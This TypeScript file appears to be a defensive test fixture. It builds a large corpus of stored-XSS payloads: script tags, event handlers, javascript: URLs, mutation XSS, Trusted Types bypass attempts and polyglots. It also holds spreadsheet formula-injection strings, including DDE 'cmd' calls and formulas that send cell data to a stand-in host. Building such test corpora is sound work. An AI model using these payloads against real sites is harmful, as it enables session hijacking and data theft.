/**
 * Issue 9's XSS corpus: stored-XSS payloads that the battery (xss.spec.ts) types into every text field and then
 * looks for in every view. Each payload calls `__xss(id)` (a function the spec exposes to every page), asks for
 * a URL with `xss` in it, or opens a dialog, so that an execution is observed and names the payload that ran.
 *
 * Families: script tags, event handlers on many elements, javascript: and data: URLs, srcdoc, template
 * injection (`${}`, `{{}}`, Lit's own markers), attribute breakouts, CSS, Unicode tricks (fullwidth, NFD,
 * zero-width, RTL, entities, escapes), mutation XSS (parser differentials), markdown links, Trusted Types
 * bypass attempts, polyglots, and spreadsheet formulas for the CSV exports.
 */

export interface Payload {
  /** Stable number, also the argument the payload passes to `__xss`. */
  readonly id: number;
  readonly family: PayloadFamily;
  readonly text: string;
}

type PayloadFamily =
  | 'script'
  | 'event-handler'
  | 'url'
  | 'srcdoc'
  | 'template'
  | 'breakout'
  | 'css'
  | 'unicode'
  | 'mutation'
  | 'markdown'
  | 'trusted-types'
  | 'polyglot'
  | 'formula';

type Template = (m: string, id: number) => string;

/** `m` is the marker call (`__xss(7)`), `id` its number. */
const FAMILIES: Readonly<Record<PayloadFamily, readonly Template[]>> = {
  script: [
    (m) => `<script>${m}</script>`,
    (m) => `<SCRIPT>${m}</SCRIPT>`,
    (_m, id) => `<script src=/xss/${id}.js></script>`,
    (m) => `<script/src=data:,${m}></script>`,
    (m) => `</textarea><script>${m}</script>`,
    (m) => `</title><script>${m}</script>`,
    (m) => `</style><script>${m}</script>`,
    (m) => `</script><script>${m}</script>`,
    (m) => `<scr<script>ipt>${m}</scr</script>ipt>`,
    (m) => `<script type=module>${m}</script>`,
    (m) => `<script>alert('xss-${m.slice(6, -1)}')</script>`,
    (m) => `<script>confirm('xss');${m}</script>`,
  ],
  'event-handler': [
    (m) => `<img src=x onerror=${m}>`,
    (m) => `<img src="x" onerror="${m}">`,
    (m) => `<IMG SRC=x OnErRoR=${m}>`,
    (m) => `<img/src/onerror=${m}>`,
    (m) => `<svg onload=${m}>`,
    (m) => `<svg/onload=${m}>`,
    (m) => `<svg><script>${m}</script></svg>`,
    (m) => `<body onload=${m}>`,
    (m) => `<details open ontoggle=${m}>`,
    (m) => `<details/open/ontoggle="${m}"><summary>x</summary></details>`,
    (m) => `<iframe onload=${m}></iframe>`,
    (m) => `<iframe src=/xss onload=${m}>`,
    (m) => `<video src=x onerror=${m}></video>`,
    (m) => `<video><source onerror=${m}></video>`,
    (m) => `<audio src=x onerror=${m}>`,
    (m) => `<input autofocus onfocus=${m}>`,
    (m) => `<select autofocus onfocus=${m}></select>`,
    (m) => `<textarea autofocus onfocus=${m}></textarea>`,
    (m) => `<keygen autofocus onfocus=${m}>`,
    (m) => `<marquee onstart=${m}>x</marquee>`,
    (m) => `<object data=x onerror=${m}></object>`,
    (m) => `<embed src=x onerror=${m}>`,
    (m) => `<a onmouseover=${m}>hover</a>`,
    (m) => `<div onpointerenter=${m}>x</div>`,
    (m) => `<div tabindex=0 autofocus onfocusin=${m}>x</div>`,
    (m) => `<style onload=${m}></style>`,
    (m) => `<link rel=stylesheet href=x onerror=${m}>`,
    (m) => `<form><button formaction=x onclick=${m}>x</button></form>`,
    (m) => `<table background=x onerror=${m}>`,
    (m) => `<x contenteditable onblur=${m}>x</x>`,
    (m) => `<img src=x:x onerror=eval('${m}')>`,
    (m) => `<img src=x onerror=window['__xss'](${m.slice(6, -1)})>`,
    (m) => `<img src=x onerror=top.${m}>`,
    (m) => `<img src=x onerror=setTimeout('${m}')>`,
    (m) => `<img src=x onerror=Function('${m}')()>`,
    (m) => `<img src=x onerror=import('/xss/${m.slice(6, -1)}.js')>`,
    (m) => `<body onpageshow=${m}>`,
    (m) => `<svg><animate onbegin=${m} attributeName=x dur=1s>`,
    (m) => `<svg><set onbegin=${m} attributeName=x to=y>`,
    (m) => `<math><maction actiontype=statusline onclick=${m}>x</maction></math>`,
    (m) => `<img src=x onerror=alert(document.domain)//${m}>`,
    (m) => `<img src=x onerror=prompt(1)//${m}>`,
  ],
  url: [
    (m) => `<a href="javascript:${m}">bấm vào đây</a>`,
    (m) => `<a href="JaVaScRiPt:${m}">x</a>`,
    (m) => `<a href="java&#x09;script:${m}">x</a>`,
    (m) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${m}">x</a>`,
    (m) => `<a href=" javascript:${m}">x</a>`,
    (m) => `<a href="javascript&colon;${m}">x</a>`,
    (m) => `<iframe src="javascript:${m}"></iframe>`,
    (m) => `<form action="javascript:${m}"><button>Gửi</button></form>`,
    (m) => `<math href="javascript:${m}">x</math>`,
    (m) => `<svg><a xlink:href="javascript:${m}"><text y=20>x</text></a></svg>`,
    (m) => `javascript:${m}`,
    (m) => `javascript://%0a${m}`,
    (m) => `<a href="vbscript:${m}">x</a>`,
    (m) => `<a href="data:text/html,<script>${m}</script>">x</a>`,
    (m) => `<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" data-m="${m}"></iframe>`,
    (m) => `<object data="javascript:${m}"></object>`,
    (m) => `<embed src="javascript:${m}">`,
    (m) => `<base href="javascript:/${m}//">`,
    (m) => `<meta http-equiv="refresh" content="0;url=javascript:${m}">`,
    (_m, id) => `<img src="https://xss.example/${id}.png">`,
    (_m, id) => `<a href="//xss.example/${id}" target=_blank>x</a>`,
    (m) => `<a href="&#0000106avascript:${m}">x</a>`,
  ],
  srcdoc: [
    (m) => `<iframe srcdoc="<script>${m}</script>"></iframe>`,
    (m) => `<iframe srcdoc="&lt;img src=x onerror=${m}&gt;"></iframe>`,
    (m) => `<iframe srcdoc='<svg onload=parent.${m}>'></iframe>`,
    (m) => `<iframe srcdoc="&#60;script&#62;${m}&#60;/script&#62;"></iframe>`,
  ],
  template: [
    (m) => `\${${m}}`,
    (m) => `{{${m}}}`,
    (m) => `{{constructor.constructor('${m}')()}}`,
    (m) => `<%= ${m} %>`,
    (m) => `#{${m}}`,
    (m) => `{${m}}`,
    (m) => `\${{${m}}}`,
    (m) => `[[${m}]]`,
    (m) => `{{{${m}}}}`,
    (m) => `<!--?lit$123456789$-->${m}`,
    (m) => `lit$123456789$<img src=x onerror=${m}>`,
    (m) => `<?lit$1$>${m}`,
    (m) => `{noi_dung}{don_vi}{nguoi_phan_anh} ${m}`,
    (m) => `{{#with "s" as |string|}}{{string.constructor.prototype.x}}{{/with}} ${m}`,
    (m) => `*{{ \`\${${m}}\` }}*`,
    (m) => `<div v-html="'<img src=x onerror=${m}>'"></div>`,
    (m) => `<div ng-app>{{$on.constructor('${m}')()}}</div>`,
  ],
  breakout: [
    (m) => `"><img src=x onerror=${m}>`,
    (m) => `'><svg onload=${m}>`,
    (m) => `" onmouseover="${m}`,
    (m) => `' autofocus onfocus='${m}`,
    (m) => `\`><img src=x onerror=${m}>`,
    (m) => `"/><script>${m}</script>`,
    (m) => `" style="x:expression(${m})`,
    (m) => `"></a><a href="javascript:${m}">x</a>`,
    (m) => `</dd></dl><img src=x onerror=${m}>`,
    (m) => `--><img src=x onerror=${m}>`,
    (m) => `]]><img src=x onerror=${m}>`,
    (m) => `</option></select><img src=x onerror=${m}>`,
    (m) => `"}]);${m};//`,
    (m) => `';${m};//`,
    (m) => `\\";${m};//`,
    (m) => `</p><p onclick=${m}>x`,
  ],
  css: [
    (m) => `<style>@import 'javascript:${m}';</style>`,
    (m) => `<div style="background:url(javascript:${m})">x</div>`,
    (m) => `<div style="width:expression(${m})">x</div>`,
    (_m, id) => `<style>*{background:url("/xss/${id}.png")}</style>`,
    (m) => `<link rel=stylesheet href="data:text/css,*{x:expression(${m})}">`,
    (m) => `</style><img src=x onerror=${m}>`,
    (m) => `<div style="behavior:url(#default#time2)" onbegin=${m}>x</div>`,
    (m) => `<style>li{list-style-image:url("javascript:${m}")}</style><ul><li>x</li></ul>`,
    (_m, id) => `<div style="-moz-binding:url(/xss/${id}.xml#x)">x</div>`,
    (_m, id) => `<svg><style>@font-face{src:url(/xss/${id}.woff)}</style></svg>`,
  ],
  unicode: [
    (m) => `＜script＞${m}＜/script＞`,
    (m) => `＜img src=x onerror=${m}＞`,
    (m) => `\\u003cimg src=x onerror=${m}\\u003e`,
    (m) => `<img src=x onerror=\\u005f\\u005fxss(${m.slice(6, -1)})>`,
    (m) => `Phường Hoàn Kiếm`.normalize('NFD') + ` <img src=x onerror=${m}>`,
    (m) => `Hồ sơ đất đai bị trả muộn`.normalize('NFD') + `"><svg onload=${m}>`,
    (m) => `<scr\u200Bipt>${m}</scr\u200Bipt>`,
    (m) => `<img\u200Bsrc=x\u200Bonerror=${m}>`,
    (m) => `\u202E<img src=x onerror=${m}>\u202C`,
    (m) => `\u2067<svg onload=${m}>\u2069`,
    (m) => `<img src=x onerror="&#95;&#95;xss(${m.slice(6, -1)})">`,
    (m) => `<img src=x onerror="&#x5f;&#x5f;xss(${m.slice(6, -1)})">`,
    (m) => `%3Cscript%3E${m}%3C%2Fscript%3E`,
    (m) => `&lt;script&gt;${m}&lt;/script&gt;`,
    (m) => `&#60;img src=x onerror=${m}&#62;`,
    (m) => `\\x3cscript\\x3e${m}\\x3c/script\\x3e`,
    (m) => `<ſcript>${m}</ſcript>`,
    (m) => `<ımg src=x onerror=${m}>`,
    (m) => `\uFEFF<script>${m}</script>`,
    (m) => `<img src=x onerror=${m}\u2028>`,
    (m) => `%253Cimg%2520src%253Dx%2520onerror%253D${m}%253E`,
    (m) => `\u3008script\u3009${m}\u3008/script\u3009`,
    (m) => `\uFE64img src=x onerror=${m}\uFE65`,
  ],
  mutation: [
    (m) => `<noscript><p title="</noscript><img src=x onerror=${m}>"></noscript>`,
    (m) => `<svg></p><style><a id="</style><img src=x onerror=${m}>">`,
    (m) => `<math><mtext><table><mglyph><style><img src=x onerror=${m}>`,
    (m) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${m}>`,
    (m) => `<xmp><p title="</xmp><img src=x onerror=${m}>">`,
    (m) => `<noembed><p title="</noembed><img src=x onerror=${m}>">`,
    (m) => `<noframes><p title="</noframes><img src=x onerror=${m}>">`,
    (m) => `<listing>&lt;img src=x onerror=${m}&gt;</listing>`,
    (m) => `<template><img src=x onerror=${m}></template>`,
    (m) => `<svg><style><img src=x onerror=${m}></style></svg>`,
    (m) => `<!--<img src="--><img src=x onerror=${m}//">`,
    (m) => `<![CDATA[><img src=x onerror=${m}>]]>`,
    (m) => `<?xml-stylesheet?><img src=x onerror=${m}>`,
    (m) => `<a id="</a><img src=x onerror=${m}>">`,
    (m) => `<title><img src=x onerror=${m}></title>`,
    (m) => `<textarea><img src=x onerror=${m}></textarea>`,
    (m) => `<svg><foreignObject><img src=x onerror=${m}></foreignObject></svg>`,
    (m) => `<table><tr><td><a><table><img src=x onerror=${m}>`,
    (m) => `<select><style></select><img src=x onerror=${m}></style>`,
    (m) => `<svg><![CDATA[</svg><img src=x onerror=${m}>]]>`,
  ],
  markdown: [
    (m) => `[bấm vào đây](javascript:${m})`,
    (m) => `[x](data:text/html;base64,PHNjcmlwdD4=) ${m}`,
    (m) => `![x](x" onerror="${m})`,
    (m) => `[x]: javascript:${m}`,
    (m) => `<javascript:${m}>`,
    (m) => `[x](javascript:${m}"onmouseover=${m})`,
    (m) => `[![x](x)](javascript:${m})`,
    (m) => `**<img src=x onerror=${m}>**`,
    (m) => `\`\`\`\n</code><img src=x onerror=${m}>\n\`\`\``,
  ],
  'trusted-types': [
    (m) => `<script>trustedTypes.createPolicy('default',{createHTML:s=>s,createScript:s=>s});${m}</script>`,
    (m) => `<img src=x onerror="trustedTypes.createPolicy('lit-html',{createHTML:s=>s});${m}">`,
    (m) => `<img src=x onerror="trustedTypes.createPolicy('pakn-widget',{createHTML:s=>s});${m}">`,
    (m) => `<iframe src="data:text/html,<script>parent.${m}</script>"></iframe>`,
    (m) => `<object data="data:text/html,<script>${m}</script>"></object>`,
    (m) => `<embed src="data:image/svg+xml,<svg onload=${m}>">`,
    (m) => `<portal src="javascript:${m}"></portal>`,
    (m) => `<svg><set attributeName=href to=javascript:${m}>`,
    (m) => `<svg><animate attributeName=href values=javascript:${m}>`,
    (m) => `<iframe src="blob:null/${m}"></iframe>`,
    (m) => `<script src="data:text/javascript,${m}"></script>`,
    (m) => `<img src=x onerror="document.body.innerHTML='<img src=x onerror=${m}>'">`,
  ],
  polyglot: [
    (m) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${m} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${m}//>\\x3e`,
    (m) => `'"--></style></script><script>${m}</script>`,
    (m) => `"'><img src=x onerror=${m}><"'`,
    (m) => `</script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${m}//'>`,
  ],
  formula: [
    (_m, id) => `=HYPERLINK("https://xss.example/${id}","xss-${id}")`,
    (_m, id) => `+cmd|' /C calc'!A0 xss-${id}`,
    (_m, id) => `-2+3+cmd|' /C calc'!A0 xss-${id}`,
    (_m, id) => `@SUM(1+1)*cmd|' /C calc'!A0 xss-${id}`,
    (_m, id) => `=WEBSERVICE("https://xss.example/${id}")`,
    (_m, id) => `=IMPORTXML(CONCAT("https://xss.example/${id}?", A1), "//a")`,
    (_m, id) => `=DDE("cmd";"/C calc";"xss-${id}")`,
    (_m, id) => `=1+1 xss-${id}`,
    (_m, id) => `＝HYPERLINK("https://xss.example/${id}","xss-${id}")`,
    (_m, id) => `＋1+1 xss-${id}`,
    (_m, id) => `－1+1 xss-${id}`,
    (_m, id) => `＠SUM(1+1) xss-${id}`,
    (_m, id) => `;=1+1 xss-${id}`,
    (_m, id) => `,=1+1 xss-${id}`,
    (_m, id) => `"=1+1" xss-${id}`,
  ],
};

export const PAYLOADS: readonly Payload[] = (() => {
  const all: Payload[] = [];
  for (const [family, templates] of Object.entries(FAMILIES) as [PayloadFamily, readonly Template[]][]) {
    for (const template of templates) {
      const id = all.length + 1;
      all.push({ id, family, text: template(`__xss(${id})`, id) });
    }
  }
  return all;
})();

/** Payloads that start with a character a spreadsheet may read as a formula (after trimming, as the API does). */
export const FORMULA_PAYLOADS: readonly Payload[] = PAYLOADS.filter((p) => p.family === 'formula');

/**
 * The corpus cut into pieces of at most `max` characters (payloads joined by a newline), in order, so that a
 * field with that limit carries the whole corpus over `pieces.length` records. A payload longer than `max` is
 * left out of that field's pieces (and reported by `coveredBy`).
 */
export function pieces(max: number, payloads: readonly Payload[] = PAYLOADS): { readonly text: string; readonly payloads: readonly Payload[] }[] {
  const out: { text: string; payloads: Payload[] }[] = [];
  let current: Payload[] = [];
  const join = (list: readonly Payload[]) => list.map((p) => p.text).join('\n');
  for (const payload of payloads) {
    if (payload.text.length > max) continue;
    if (current.length && join([...current, payload]).length > max) {
      out.push({ text: join(current), payloads: current });
      current = [];
    }
    current.push(payload);
  }
  if (current.length) out.push({ text: join(current), payloads: current });
  return out;
}

/** A payload's family template with its id replaced, to check that payloads differ by more than their number. */
export function shapeOf(payload: Payload): string {
  return payload.text.replaceAll(`__xss(${payload.id})`, '__xss(N)').replaceAll(String(payload.id), 'N');
}
